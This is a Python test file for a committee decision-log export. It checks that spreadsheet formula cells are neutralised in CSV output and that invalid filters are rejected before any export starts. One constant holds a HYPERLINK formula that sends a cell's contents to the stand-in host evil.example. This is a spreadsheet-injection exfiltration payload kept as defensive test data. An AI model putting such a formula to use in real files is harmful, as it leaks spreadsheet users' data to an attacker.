"""The decision log's exports: cells a spreadsheet would run as formulas come out as text, and every
filter is checked before the first byte (a bad one gets the page with its error, never a broken 200)."""
import csv
import io
import json

import pytest

from sandbox.labels import Role
from sandbox.models import AuditEvent
from sandbox.services import committee

from ..conftest import login
from ..factories import OrganisationFactory, UserFactory
from ..factories_flow import CONDITION

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def auditor_client(client, db):
    login(client, UserFactory(roles=[Role.auditor]))
    return client


def _decided(cast):
    application, item = cast.on_agenda()
    cast.all_vote(item)
    committee.record_decision(cast.chair, application, "approve_with_conditions", "Fine", [CONDITION])
    return application


def _rows(response):
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def _exports(db):
    return db.session.query(AuditEvent).filter_by(action="decision_log.exported").count()


def test_cells_starting_a_formula_are_written_as_text(cast, auditor_client, db):
    application, item = cast.on_agenda(title="+1 Taxi", organisation=OrganisationFactory(name="@SUM(A1)"))
    cast.all_vote(item)
    committee.record_decision(cast.chair, application, "approve_with_conditions", FORMULA,
                              [{"kind": "geographic_limit", "parameters": {}, "text": "-only Sangam"}])
    row = _rows(auditor_client.get("/audit/decisions.csv"))[0]
    assert row["reasons"] == "'" + FORMULA
    assert row["title"] == "'+1 Taxi"
    assert row["organisation"] == "'@SUM(A1)"
    assert row["decision_id"].isdigit() and row["votes"].startswith("{")
    # JSON Lines is data for programs: the text as it was typed.
    record = json.loads(auditor_client.get("/audit/decisions.jsonl").get_data(as_text=True).splitlines()[0])
    assert record["reasons"] == FORMULA and record["title"] == "+1 Taxi"


@pytest.mark.parametrize("query, message", [
    ("zone=99999999999999999999999", "Not a valid choice"),
    ("zone=abc", "Not a valid choice"),
    ("until=9999-12-31", "Enter a date from 1900-01-01 to 9899-12-31."),
    ("since=0001-01-01", "Enter a date from"),
    ("since=2024-02-30", "Not a valid date value"),
    ("outcome=maybe", "Not a valid choice"),
    ("instrument=%07", "Not a valid choice"),
    ("since=2025-02-01&until=2025-01-01", "The end date is before the start date."),
])
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_bad_filter_is_refused_before_the_export_starts(cast, auditor_client, db, query, message, fmt):
    application = _decided(cast)
    response = auditor_client.get(f"/audit/decisions.{fmt}?{query}")
    body = response.get_data(as_text=True)
    assert response.status_code == 422 and response.mimetype == "text/html"
    assert message in body and "Content-Disposition" not in response.headers
    assert _exports(db) == 0
    page = auditor_client.get(f"/audit/decisions?{query}")
    assert page.status_code == 422 and message in page.get_data(as_text=True)


def test_valid_filters_still_export(cast, auditor_client, db):
    application = _decided(cast)
    response = auditor_client.get(f"/audit/decisions.csv?zone={application.zone_id}&since=2000-01-01"
                                  "&until=9899-12-31&outcome=approve_with_conditions")
    assert response.status_code == 200 and len(_rows(response)) == 1
    assert response.headers["Cache-Control"] == "no-store"
    assert _exports(db) == 1
